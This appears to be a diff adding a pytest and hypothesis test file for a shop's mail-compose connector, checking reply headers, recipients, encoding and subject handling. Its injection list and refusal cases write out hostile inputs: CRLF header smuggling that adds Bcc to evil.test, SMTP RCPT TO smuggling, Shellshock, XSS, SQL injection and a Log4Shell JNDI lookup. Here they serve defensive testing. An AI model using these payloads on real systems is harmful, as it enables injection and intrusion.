@@ -1,0 +1,252 @@
+"""A draft becomes exactly the mail that was meant, or none."""
+
+import email
+import email.header
+import email.policy
+import email.utils
+import json
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from desktop.connectors.mail.compose import prepare
+from desktop.connectors.mail.settings import MailSettings
+from desktop.connectors.mail.subject import topic, without_prefixes
+from desktop.domain.draft import Parent, Plan
+from desktop.domain.errors import Refused
+from tests.mail.kit import NOW, account, draft, parent
+
+ID = "5b0e54f2-0000-4000-8000-0123456789ab"
+SETTINGS = {"address": "owner@shop.test", "imap_host": "h", "aliases": "orders@shop.test; jobs@shop.test"}
+USUAL = ["Date", "From", "To", "Subject", "Message-ID", "In-Reply-To", "References"]
+USUAL += ["X-Shopbell-Id", "MIME-Version", "Content-Type", "Content-Transfer-Encoding"]
+
+
+def planned(asked: Parent | None, settings: dict[str, str] | None = None, **changes: object) -> Plan:
+    return prepare(MailSettings.of(account(SETTINGS | (settings or {}))), ID, draft(**changes), asked, NOW)
+
+
+def read(plan: Plan) -> email.message.EmailMessage:
+    return email.message_from_bytes(plan.payload, policy=email.policy.default)  # type: ignore[return-value]
+
+
+def test_a_reply_names_what_it_answers() -> None:
+    plan = planned(parent())
+    message = read(plan)
+    assert message.keys() == USUAL
+    assert message["To"] == "customer@example.test"
+    assert message["From"] == "owner@shop.test"
+    assert message["Subject"] == "Re: About my order"
+    assert message["Message-ID"] == f"<{ID}@shop.test>" == plan.remote_key
+    assert message["In-Reply-To"] == "<7@example.test>"
+    assert message["References"] == "<1@example.test> <7@example.test>"
+    assert email.utils.parsedate_to_datetime(message["Date"]) == NOW
+    assert (plan.sender, plan.recipients) == ("owner@shop.test", ("customer@example.test",))
+    assert b"\n" not in plan.payload.replace(b"\r\n", b"")
+
+
+def test_the_same_draft_gives_the_same_bytes() -> None:
+    assert planned(parent()) == planned(parent())
+
+
+def test_the_address_the_customer_wrote_to_answers() -> None:
+    assert planned(parent(sent_to=("x@else.test", "Orders@shop.test"))).sender == "Orders@shop.test"
+    assert planned(parent(sent_to=("owner+kettle@shop.test",))).sender == "owner+kettle@shop.test"
+    assert planned(parent(sent_to=("stranger@shop.test",))).sender == "owner@shop.test"
+
+
+def test_reply_to_is_respected_and_the_owner_decides() -> None:
+    assert planned(parent(reply_to=("desk@example.test",))).recipients == ("desk@example.test",)
+    plan = planned(parent(reply_to=("desk@example.test",)), to=("a@b.test",), cc=("c@d.test", "a@b.test"))
+    assert plan.recipients == ("a@b.test", "c@d.test")
+    assert plan.summary == "a@b.test, c@d.test"
+
+
+def test_a_copy_to_ourselves_is_in_the_envelope_only() -> None:
+    plan = planned(parent(), {"copy_to_self": "yes"})
+    assert plan.recipients == ("customer@example.test", "owner@shop.test")
+    assert b"Bcc" not in plan.payload
+
+
+def test_long_threads_keep_the_first_and_the_last() -> None:
+    earlier = tuple(f"<{n}@example.test>" for n in range(1, 2001))
+    chain = read(planned(parent(parent_ids=earlier)))["References"].split()
+    assert len(chain) == 21
+    assert (chain[0], chain[-1]) == ("<1@example.test>", "<7@example.test>")
+
+
+def test_a_name_and_a_text_of_any_script_arrive_as_written() -> None:
+    text = "Liebe Zoë,\n\nгрусть — 喜び 🎉\n.\nFrom here\n" + "x" * 2000
+    plan = planned(parent(subject="Größe & 喜び " * 8), {"sender_name": "Bäckerei „Hazel & Rye“"}, text=text)
+    message = read(plan)
+    assert message.get_content().replace("\r\n", "\n") == text + "\n"
+    assert message["From"].addresses[0].display_name == "Bäckerei „Hazel & Rye“"
+    assert message["Subject"].startswith("Re: Größe & 喜び")
+    assert max(map(len, plan.payload.split(b"\r\n"))) < 999
+    assert plan.payload.isascii()
+
+
+def test_what_is_quoted_is_marked_and_bounded() -> None:
+    quote = "\n".join(f"line {n}" for n in range(100))
+    lines = read(planned(parent(quote=quote))).get_content().splitlines()
+    assert lines[0] == "It left the shop this morning."
+    assert lines[2] == "Marta Oduya, 2026-11-20 09:30:"
+    assert lines[3:5] == ["> line 0", "> line 1"]
+    assert lines[-1] == "> […]"
+    assert len(lines) < 50
+
+
+@pytest.mark.parametrize(
+    ("changes", "words"),
+    [
+        ({"text": " \n "}, "nothing in this reply"),
+        ({"to": ("nobody",)}, "nobody"),
+        ({"to": ("a@b.test\r\nBcc: e@evil.test",)}, "not an address"),
+        ({"to": ("a@b.test>\r\nRCPT TO:<e@evil.test",)}, "not an address"),
+        ({"to": ("a@b.test, e@evil.test",)}, "not an address"),
+        ({"to": ("a..b@b.test",)}, "not an address"),
+        ({"to": ('"a b"@b.test',)}, "not an address"),
+        ({"cc": ("=?utf-8?q?e=40evil.test?=@b.test ",)}, ""),
+    ],
+)
+def test_what_cannot_be_sent_is_refused_with_a_sentence(changes: dict[str, object], words: str) -> None:
+    if not words:
+        assert planned(parent(), **changes).recipients[1].endswith("@b.test")
+        return
+    with pytest.raises(Refused, match=words):
+        planned(parent(), **changes)
+
+
+def test_nobody_to_answer_is_refused() -> None:
+    with pytest.raises(Refused, match="Nobody"):
+        planned(None)
+
+
+INJECTIONS = [
+    "é x=?UTF-8?Q?=0A?=Bcc: e@evil.test",
+    "=?utf-8?b?DQpCY2M6IGVAZXZpbC50ZXN0?=",
+    "=?utf-8?q?=0D=0ABcc=3A_e=40evil=2Etest?=",
+    "a\r\nBcc: e@evil.test",
+    "a\nBcc: e@evil.test",
+    "a\rBcc: e@evil.test",
+    "a\r\n\r\nbody",
+    "a\u2028Bcc: e@evil.test",
+    "a\u2029Bcc: e@evil.test",
+    "a\x85Bcc: e@evil.test",
+    "a\x0bBcc: e@evil.test\x0c",
+    "a\x00Bcc: e@evil.test",
+    "a\x1bBcc\x7f",
+    "嘊嘍Bcc: e@evil.test",
+    "\u560a\u560dBcc: e@evil.test",
+    "a" * 5000,
+    "é" * 5000,
+    "\ud800 lone",
+    "x =? y ?= z",
+    "=?=?utf-8?q?=?=x",
+    "\t\tindented",
+    '"quoted" <e@evil.test>',
+    "e@evil.test, f@evil.test",
+    "\u202eReversed",
+    "\ufeffBOM",
+    "👩‍👩‍👧‍👦" * 60,
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
+    "",
+    " ",
+    "%0d%0aBcc:e@evil.test",
+    "\\r\\nBcc: e@evil.test",
+    "Ω≈ç√∫˜µ≤≥÷",
+    "() { 0; }; touch /tmp/blns",
+    "<script>alert(1)</script>",
+    "'; DROP TABLE message; --",
+    "${jndi:ldap://evil.test/a}",
+    "Re: " * 400,
+]
+
+
+def hostile_strings() -> list[str]:
+    extra: list[str] = []
+    for file in Path("/work/shared/data/hostile/unicode").rglob("*.json"):
+        extra += [each for each in json.loads(file.read_text(encoding="utf-8")) if isinstance(each, str)]
+    for file in Path("/work/shared/data/hostile/unicode").rglob("*.txt"):
+        extra += [line for line in file.read_text(encoding="utf-8", errors="replace").splitlines() if line[:1] != "#"]
+    return INJECTIONS + extra
+
+
+def recipients_of(message: email.message.Message) -> list[str]:
+    values = [str(value) for name in ("To", "Cc", "Bcc", "Resent-To") for value in message.get_all(name, [])]
+    return [address for _, address in email.utils.getaddresses(values)]
+
+
+@pytest.mark.parametrize(
+    "place", ["subject", "parent-subject", "name", "own-id", "references", "quote", "text", "sender-name"]
+)
+def test_no_words_from_outside_become_headers_or_recipients(place: str) -> None:
+    for words in hostile_strings():
+        asked, changes, settings = parent(), {}, {}
+        if place == "subject":
+            changes = {"subject": words}
+        elif place == "text":
+            changes = {"text": words + "."}
+        elif place == "sender-name":
+            settings = {"sender_name": words}
+        else:
+            given = {"parent-subject": "subject", "name": "author_name", "own-id": "own_id", "quote": "quote"}
+            asked = (
+                parent(parent_ids=(words, f"<{words}>")) if place == "references" else parent(**{given[place]: words})
+            )
+        try:
+            plan = planned(asked, settings, **changes)
+        except Refused:
+            continue
+        for policy in (email.policy.compat32, email.policy.default):
+            message = email.message_from_bytes(plan.payload, policy=policy)
+            assert [name for name in message if name not in ("In-Reply-To", "References")] == [
+                name for name in USUAL if name not in ("In-Reply-To", "References")
+            ], words
+            assert recipients_of(message) == ["customer@example.test"], words
+            subject = str(email.header.make_header(email.header.decode_header(str(message["Subject"]))))
+            assert "\n" not in subject.replace("\r\n ", "").replace("\n ", ""), words
+        assert plan.recipients == ("customer@example.test",)
+
+
+@given(subject=st.text(), name=st.text(), text=st.text(min_size=1), own_id=st.text(), address=st.text())
+def test_anything_is_a_safe_mail_or_refused(subject: str, name: str, text: str, own_id: str, address: str) -> None:
+    asked = parent(subject=subject, author_name=name, own_id=own_id, quote=text)
+    try:
+        plan = planned(asked, text=text)
+    except Refused:
+        pass
+    else:
+        assert recipients_of(email.message_from_bytes(plan.payload)) == ["customer@example.test"]
+    try:
+        plan = planned(parent(), to=(address,))
+    except Refused:
+        return
+    assert recipients_of(email.message_from_bytes(plan.payload)) == list(plan.recipients)
+    assert len(plan.recipients) == 1
+
+
+@pytest.mark.parametrize(
+    ("subject", "bare", "its_topic"),
+    [
+        ("Where is my order", "Where is my order", ""),
+        ("Re: Where is my order", "Where is my order", "where is my order"),
+        ("RE: AW: Sv: Antw: Tr: Rv:  Where  is my order", "Where  is my order", "where is my order"),
+        ("Re[2]: Kettle", "Kettle", "kettle"),
+        ("Re (3): Kettle", "Kettle", "kettle"),
+        ("[shop] Re: [orders] Kettle", "Kettle", "kettle"),
+        ("Re: [shop] Kettle", "Kettle", "kettle"),
+        ("[shop] Kettle", "Kettle", ""),
+        ("回复：ご注文", "ご注文", "ご注文"),
+        ("Kettle (fwd)", "Kettle", "kettle"),
+        ("Re:", "Re:", ""),
+        ("[only a tag]", "[only a tag]", ""),
+        ("Regarding my order: urgent", "Regarding my order: urgent", ""),
+        ("", "", ""),
+    ],
+)
+def test_subjects_lose_their_marks(subject: str, bare: str, its_topic: str) -> None:
+    assert without_prefixes(subject) == bare
+    assert topic(subject) == its_topic
